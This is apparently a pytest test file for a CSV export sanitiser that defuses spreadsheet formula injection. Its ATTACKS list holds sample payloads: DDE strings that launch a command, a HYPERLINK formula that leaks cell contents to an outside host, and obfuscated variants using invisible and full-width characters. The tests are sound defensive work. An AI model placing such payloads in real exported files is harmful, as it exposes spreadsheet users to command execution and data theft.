"""CSV that a spreadsheet shows and does not execute."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from shipper.export.formats import opener
from shipper.export.formats.csv_file import defused
from shipper.export.tables import Column, Table
from tests.export.reading import read_table

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?leak="&A1&A2,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\rharmless",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
    "\ufeff=1+1",
    "\u200b-1",
    "\x00=1+1",
    "\x0b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=",
    "-",
]
HARMLESS = ["", "a=b", "user@example.com", "1-2", "'=1", "“=1", "0", "<>", "é-", "10.0.0.1", "50% off!", ' "=1"']


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_be_executed_has_an_apostrophe_before_it(text: str) -> None:
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_anything_else_stays(text: str) -> None:
    assert defused(text) == text


TABLE = Table(
    "messages",
    "message",
    "",
    (
        Column("word", "text", "", "message.a"),
        Column("words", "texts", "", "message.b"),
        Column("count", "number", "", "message.c"),
        Column("score", "decimal", "", "message.d"),
        Column("yes", "flag", "", "message.e"),
        Column("time", "time", "", "message.f"),
    ),
)


def written(folder: Path, format: Any, rows: list[list[Any]]) -> Path:
    path = folder / f"messages-00001.{format}"
    file = opener(format)(path, TABLE)
    for row in rows:
        file.add(list(row))
    file.close()
    return path


def test_cells_are_text_of_one_meaning(tmp_path: Path) -> None:
    rows = [
        ["=1", ["=a", "b"], -5, -1.5, False, "2019-06-10T15:04:40.000Z"],
        ['say "x", y\r\nz', ["a|b", "c\\d"], 0, 0.0, True, None],
        [None, ["-a"], None, 1e-7, None, None],
    ]
    path = written(tmp_path, "csv", rows)

    assert path.read_bytes() == (
        b"word,words,count,score,yes,time\r\n"
        b"'=1,'=a|b,-5,-1.5,false,2019-06-10T15:04:40.000Z\r\n"
        b'"say ""x"", y\r\nz",a\\|b|c\\\\d,0,0.0,true,\r\n'
        b",'-a,,1e-07,,\r\n"
    )


def test_the_attacks_survive_both_readers(tmp_path: Path) -> None:
    texts = [text for text in ATTACKS if "\x00" not in text]
    written(tmp_path, "csv", [[text, [text, "x"], 1, 1.0, True, None] for text in texts])

    found, escaped = read_table(tmp_path, "csv", "messages"), "\\|"
    assert [row["word"] for row in found] == [f"'{text}" for text in texts]
    assert [row["words"] for row in found] == [f"'{text.replace('|', escaped)}|x" for text in texts]


@pytest.mark.parametrize("format", ["ndjson", "parquet"])
def test_other_formats_hold_the_raw_value(tmp_path: Path, format: str) -> None:
    rows = [[text, [text], -5, -1.5, False, "2019-06-10T15:04:40.000Z"] for text in ATTACKS]
    written(tmp_path, format, rows)

    names = [column.name for column in TABLE.columns]
    assert read_table(tmp_path, format, "messages") == [dict(zip(names, row, strict=True)) for row in rows]
